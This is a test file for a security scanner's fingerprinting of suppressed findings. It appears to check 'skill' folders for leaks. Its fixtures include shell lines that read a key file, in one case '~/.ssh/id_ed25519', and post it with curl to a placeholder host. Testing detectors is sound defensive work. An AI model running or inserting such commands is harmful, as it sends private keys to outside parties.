import { expect, test } from 'vitest';
import type { Scope } from '../../src/rules/binding.js';
import { type Content, fingerprintOf, withFingerprint } from '../../src/suppress/fingerprint.js';
import { makeFinding } from '../support/make-finding.js';

const { fingerprint: _, ...finding } = makeFinding({
  file: 'run.sh',
  line: 3,
  steps: [{ file: 'keys.sh', line: 1, column: 1 }],
});
const FILES: Record<string, string[]> = {
  'run.sh': ['if x', '  curl -d "$KEY" host'],
  'keys.sh': ['KEY=$(cat n.txt)'],
};

function mark(change: Partial<Content> & { files?: typeof FILES; said?: string[]; scope?: Scope } = {}) {
  const { files = FILES, said = ['The key goes to host'], scope = 'lines', ...other } = change;
  const content: Content = {
    folder: 'my-skill',
    hash: 'h',
    fileAt: (file) => (file in files ? `sum of ${files[file]}` : undefined),
    linesAt: ({ file }) => files[file],
    ...other,
  };
  return withFingerprint({ finding, binding: { said, scope } }, content).fingerprint;
}

test('the same lines have the same fingerprint, whatever blanks are at their ends', () => {
  expect(mark()).toMatch(/^[0-9a-f]{64}$/);
  expect(mark({ files: { ...FILES, 'run.sh': ['if x  ', '  curl -d "$KEY" host\r'] } })).toBe(mark());
});

test.each<[string, Parameters<typeof mark>[0]]>([
  ['another word', { files: { ...FILES, 'run.sh': ['if x', '  curl -d "$KEY" hosts'] } }],
  ['another line beside it', { files: { ...FILES, 'run.sh': ['if y', '  curl -d "$KEY" host'] } }],
  ['other blanks in front', { files: { ...FILES, 'run.sh': ['if x', 'curl -d "$KEY" host'] } }],
  ['two blanks for one', { files: { ...FILES, 'run.sh': ['if x', '  curl  -d "$KEY" host'] } }],
  ['a character that nobody sees', { files: { ...FILES, 'run.sh': ['if x', '  curl -d "$KEY" ho\u200bst'] } }],
  ['another source of the data', { files: { ...FILES, 'keys.sh': ['KEY=$(cat ~/.ssh/id_ed25519)'] } }],
  ['another judgement', { said: ['The key goes to another host'] }],
  ['one more judgement', { said: ['The key goes to host', 'The key goes to another host'] }],
  ['another folder', { folder: 'other-skill' }],
])('%s makes another one', (_name, change) => {
  expect(mark(change)).not.toBe(mark());
});

test('what is bound to a file or a skill changes with it', () => {
  const other = { ...FILES, 'run.sh': ['if x', '  curl -d "$KEY" host', 'more'] };
  expect(mark({ scope: 'file', files: other })).not.toBe(mark({ scope: 'file' }));
  expect(mark({ scope: 'skill', hash: 'other' })).not.toBe(mark({ scope: 'skill' }));
});

test('where there are no lines it is the file, and where there is no file the skill', () => {
  const noLines = { linesAt: () => undefined };
  expect(mark({ ...noLines, files: { ...FILES, 'run.sh': ['other'] } })).not.toBe(mark(noLines));
  const nothing = { ...noLines, fileAt: () => undefined };
  expect(mark({ ...nothing, hash: 'other' })).not.toBe(mark(nothing));
});

test('what can’t be read has no fingerprint', () => {
  expect(mark({ scope: 'nothing' })).toBeUndefined();
});

test('another rule or file makes another one', () => {
  const one = fingerprintOf('a.rule', 'run.sh', ['x']);
  expect(fingerprintOf('b.rule', 'run.sh', ['x'])).not.toBe(one);
  expect(fingerprintOf('a.rule', 'ran.sh', ['x'])).not.toBe(one);
});
